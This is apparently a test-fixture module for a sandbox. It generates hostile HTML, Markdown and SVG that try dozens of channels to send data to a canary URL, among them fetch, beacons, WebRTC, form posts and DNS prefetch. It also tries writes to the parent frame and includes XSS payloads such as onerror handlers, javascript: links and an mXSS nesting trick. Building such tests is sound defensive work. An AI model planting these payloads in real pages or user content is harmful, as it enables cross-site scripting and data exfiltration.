@@ -1,0 +1,231 @@
+// A page that tries everything to send something out, as files of one directory. What would end the
+// document, a navigation of itself, has a file of its own.
+
+/** The names whose lookup the browser's network log must not show. */
+export const DNS_HOSTS = ['leak-by-prefetch.test', 'leak-by-preconnect.test']
+
+/** What reaches the canary over HTTP when nothing seals the page; the page tries some more. */
+export const REQUEST_CHANNELS = [
+  'fetch', 'fetch-no-cors', 'fetch-keepalive', 'xhr', 'websocket', 'events', 'beacon', 'worker',
+  'img', 'srcset', 'picture', 'svg-image', 'input-image', 'video', 'audio', 'icon',
+  'script', 'module', 'import-script', 'modulepreload', 'preload', 'prefetch',
+  'css', 'css-import', 'css-background', 'font',
+  'iframe', 'srcdoc-inner', 'object', 'embed',
+  'form', 'open', 'link-blank', 'ping', 'base/base',
+]
+
+/** What reaches it in datagrams: WebRTC and WebTransport. */
+export const DATAGRAM_CHANNELS = ['stun', 'quic']
+
+/** What the running page must be told that it may not do. */
+export const REFUSED = [
+  'localStorage', 'sessionStorage', 'cookie', 'indexedDB', 'caches', 'opfs', 'serviceWorker', 'locks', 'clipboard',
+  'parent-document', 'parent-location', 'parent-global', 'top-document', 'fetch', 'fetch-no-cors', 'import-script',
+]
+
+/** Navigations of the document itself, one file each. */
+export const NAVIGATIONS = ['location', 'meta-refresh', 'link-click', 'form-submit', 'top-location', 'history']
+
+/** The files of the hostile page, by path. */
+export function hostileFiles(canary) {
+  const files = { 'index.html': everything(canary) }
+  for (const way of NAVIGATIONS) files[`${way}.html`] = navigation(way, canary)
+  return files
+}
+
+/** All that needs no script to be tried; it works in markup alone. */
+function markup(at) {
+  return `
+<link rel="stylesheet" href="${at('css')}">
+<style>
+  @import url("${at('css-import')}");
+  @font-face { font-family: leak; src: url("${at('font')}"); }
+  body { background-image: url("${at('css-background')}"); font-family: leak; }
+</style>
+<link rel="prefetch" href="${at('prefetch')}">
+<link rel="preload" as="image" href="${at('preload')}">
+<link rel="modulepreload" href="${at('modulepreload')}">
+<link rel="manifest" href="${at('manifest')}">
+<link rel="icon" href="${at('icon')}">
+<link rel="preconnect" href="//${DNS_HOSTS[1]}">
+<link rel="dns-prefetch" href="//${DNS_HOSTS[0]}">
+<body>
+<p>Words in the font that is to be fetched.</p>
+<img src="${at('img')}" alt="">
+<img srcset="${at('srcset')} 1x" alt="">
+<picture><source srcset="${at('picture')}"><img alt=""></picture>
+<iframe src="${at('iframe')}"></iframe>
+<iframe srcdoc="&lt;img src='${at('srcdoc-inner')}'&gt;"></iframe>
+<object data="${at('object')}"></object>
+<embed src="${at('embed')}">
+<video src="${at('video')}" preload="auto" autoplay muted></video>
+<audio src="${at('audio')}" preload="auto"></audio>
+<video controls><track default src="${at('track')}"></video>
+<input type="image" src="${at('input-image')}" alt="">
+<svg width="9" height="9"><image href="${at('svg-image')}" width="9" height="9"/><use href="${at('svg-use')}#x"/></svg>
+<script src="${at('script')}"></script>
+<script type="module" src="${at('module')}"></script>
+<form id="form" action="${at('form')}" target="_blank"><input name="private" value="data"></form>
+<a id="blank" target="_blank" href="${at('link-blank')}">A link</a>
+<a id="pinging" href="#here" ping="${at('ping')}">A link that tells</a>
+`
+}
+
+function everything(canary) {
+  const at = (channel) => `${canary.url}/leak/${channel}`
+  return `<!doctype html>
+<html><head><meta charset="utf-8"><title>Hostile</title>
+${markup(at)}
+<p id="progress">trying</p>
+<script>
+const at = (channel) => '${canary.url}/leak/' + channel
+const seen = {}
+const tries = []
+const attempt = (name, run) => {
+  tries.push((async () => {
+    try { seen[name] = String(await Promise.race([run(), new Promise((r) => setTimeout(r, 1500, 'no answer'))])) }
+    catch (error) { seen[name] = 'refused: ' + error.name }
+  })())
+}
+const event = (target, ...names) => new Promise((r) => names.forEach((n) => target.addEventListener(n, () => r(n))))
+
+document.getElementById('form').submit()
+document.getElementById('blank').click()
+document.getElementById('pinging').click()
+attempt('fetch', () => fetch(at('fetch')))
+attempt('fetch-no-cors', () => fetch(at('fetch-no-cors'), { mode: 'no-cors', method: 'POST', body: 'private' }))
+attempt('fetch-keepalive', () => fetch(at('fetch-keepalive'), { mode: 'no-cors', keepalive: true }))
+attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', at('xhr')); x.send(); return event(x, 'load', 'error') })
+attempt('import-script', () => import(at('import-script')))
+attempt('websocket', () => event(new WebSocket(at('websocket').replace('http', 'ws')), 'open', 'error'))
+attempt('events', () => event(new EventSource(at('events')), 'open', 'error'))
+attempt('beacon', async () => navigator.sendBeacon(at('beacon'), 'private'))
+attempt('open', async () => open(at('open')) === null ? 'null' : 'a window')
+attempt('worker', async () => {
+  const body = 'fetch("' + at('worker') + '", { mode: "no-cors" }).then(() => postMessage("sent"), () => postMessage("refused"))'
+  const worker = new Worker(URL.createObjectURL(new Blob([body], { type: 'text/javascript' })))
+  return event(worker, 'message', 'error')
+})
+attempt('shared-worker', async () => event(new SharedWorker(at('shared-worker')), 'error'))
+attempt('report', async () => {
+  const meta = document.createElement('meta')
+  meta.httpEquiv = 'Content-Security-Policy-Report-Only'
+  meta.content = "img-src 'none'; report-uri " + at('report')
+  document.head.append(meta)
+})
+attempt('webrtc', async () => {
+  const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${canary.udpPort}' }] })
+  connection.createDataChannel('leak')
+  const candidates = []
+  connection.onicecandidate = (e) => e.candidate && candidates.push(e.candidate.candidate)
+  await connection.setLocalDescription(await connection.createOffer())
+  if (connection.iceGatheringState !== 'complete') {
+    await Promise.race([
+      new Promise((r) => { connection.onicegatheringstatechange = () => connection.iceGatheringState === 'complete' && r() }),
+      new Promise((r) => setTimeout(r, 2000)),
+    ])
+  }
+  return candidates.length + ' candidates'
+})
+attempt('webtransport', async () => { const t = new WebTransport('https://127.0.0.1:${canary.udpPort}/'); await t.ready; return 'open' })
+attempt('localStorage', async () => { localStorage.setItem('leak', '1'); return 'stored' })
+attempt('sessionStorage', async () => { sessionStorage.setItem('leak', '1'); return 'stored' })
+attempt('cookie', async () => { document.cookie = 'leak=1'; return document.cookie.includes('leak') ? 'stored' : 'not kept' })
+attempt('indexedDB', async () => { const r = indexedDB.open('leak'); const how = await event(r, 'success', 'error'); return how === 'success' ? 'stored' : how })
+attempt('caches', async () => { await caches.open('leak'); return 'stored' })
+attempt('opfs', async () => { await navigator.storage.getDirectory(); return 'stored' })
+attempt('serviceWorker', async () => { await navigator.serviceWorker.register('/assets/worker.js'); return 'stored' })
+attempt('locks', async () => { await navigator.locks.request('leak', async () => {}); return 'locked' })
+attempt('broadcast', async () => { new BroadcastChannel('watchfire').postMessage('leak'); return 'posted' })
+attempt('parent-document', async () => parent.document.title)
+attempt('parent-location', async () => parent.location.href)
+attempt('parent-global', async () => { parent.pwned = true; return 'written' })
+attempt('top-document', async () => top.document.body.innerHTML.length)
+attempt('download', async () => {
+  const a = document.createElement('a')
+  a.href = 'data:text/plain,leak'
+  a.download = 'leak.txt'
+  document.body.append(a)
+  a.click()
+  return 'clicked'
+})
+attempt('clipboard', async () => { await navigator.clipboard.readText(); return 'read' })
+attempt('alert', async () => { alert('leak'); return 'asked' })
+attempt('messages', async () => {
+  // Words that the app itself listens for, and others: none may change it.
+  for (const data of ['frame-ready', { kind: 'frame-ready' }, { html: '<h1>mine</h1>' }, { kind: 'navigate', to: '/' }]) parent.postMessage(data, '*')
+  top.postMessage({ html: '<h1>mine</h1>' }, '*')
+  return 'sent'
+})
+attempt('base', async () => {
+  const base = document.createElement('base')
+  base.href = at('base') + '/'
+  document.head.append(base)
+  const image = new Image()
+  image.src = 'base'
+  const done = event(image, 'load', 'error')
+  return done.then((how) => { base.remove(); return how })
+})
+Promise.all(tries).then(() => {
+  document.getElementById('progress').textContent = 'tried ' + JSON.stringify(seen)
+})
+</script>
+</body></html>`
+}
+
+function navigation(way, canary) {
+  const to = `${canary.url}/leak/${way}`
+  const head = '<!doctype html><meta charset="utf-8"><title>Hostile</title>'
+  switch (way) {
+    case 'location':
+      return `${head}<p>going</p><script>location = '${to}'</script>`
+    case 'meta-refresh':
+      return `${head}<meta http-equiv="refresh" content="0; url=${to}"><p>going</p><script>document.title = 'Going'</script>`
+    case 'link-click':
+      return `${head}<a id="link" href="${to}">A link that looks good</a><script>document.getElementById('link').click()</script>`
+    case 'form-submit':
+      return `${head}<form id="form" action="${to}"><input name="private" value="data"><button id="send">Send</button></form><script>document.getElementById('form').submit()</script>`
+    case 'top-location':
+      return `${head}<a id="link" target="_top" href="${to}">A link that looks good</a><script>try { top.location = '${to}' } catch {}; document.getElementById('link').click()</script>`
+    case 'history':
+      return `${head}<p>going</p><script>location.replace('${to}'); navigation.navigate('${to}')</script>`
+  }
+}
+
+/** Markdown with all that its authors may write in it and we must not show. */
+export function hostileMarkdown(canary) {
+  const at = (channel) => `${canary.url}/leak/${channel}`
+  return `# Innocent words
+
+![a picture](${at('md-picture')}) [a link](javascript:fetch('${at('md-javascript')}'))
+
+<img src="${at('md-img')}" onerror="fetch('${at('md-onerror')}')">
+<img src="data:," onerror="fetch('${at('md-onerror-data')}')" style="background: url(${at('md-style')})">
+<script>fetch('${at('md-script')}')</script>
+<style>@import url("${at('md-import')}"); body { background: url("${at('md-background')}") }</style>
+<link rel="stylesheet" href="${at('md-css')}"><link rel="dns-prefetch" href="//${DNS_HOSTS[0]}">
+<link rel="preconnect" href="http://${DNS_HOSTS[1]}"><meta http-equiv="refresh" content="0; url=${at('md-refresh')}">
+<iframe src="${at('md-iframe')}"></iframe><object data="${at('md-object')}"></object><embed src="${at('md-embed')}">
+<video src="${at('md-video')}" poster="${at('md-poster')}" autoplay></video><audio src="${at('md-audio')}"></audio>
+<svg><image href="${at('md-svg')}"/><script>fetch('${at('md-svg-script')}')</script><use href="${at('md-use')}#x"/></svg>
+<math><mtext><table><mglyph><style><img src="${at('md-mxss')}" onerror="fetch('${at('md-mxss-error')}')"></style></mglyph></table></mtext></math>
+<form action="${at('md-form')}"><button autofocus onfocus="fetch('${at('md-focus')}')">Send</button></form>
+<base href="${at('md-base')}/"><img src="relative.png">
+<details open ontoggle="fetch('${at('md-toggle')}')"><summary>More</summary></details>
+
+The end of it.
+`
+}
+
+/** A picture that is a document, with the same in mind. */
+export function hostileSvg(canary) {
+  const at = (channel) => `${canary.url}/leak/${channel}`
+  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="60">
+<style>@import url("${at('svg-css')}"); rect { fill: url("${at('svg-fill')}#x") }</style>
+<script>fetch('${at('svg-script')}'); parent.pwned = true</script>
+<script href="${at('svg-script-src')}"></script>
+<image href="${at('svg-image')}" width="9" height="9"/><use xlink:href="${at('svg-use')}#x"/>
+<foreignObject width="90" height="60"><img xmlns="http://www.w3.org/1999/xhtml" src="${at('svg-img')}"/></foreignObject>
+<rect width="90" height="60" onload="fetch('${at('svg-onload')}')"/>
+</svg>`
+}
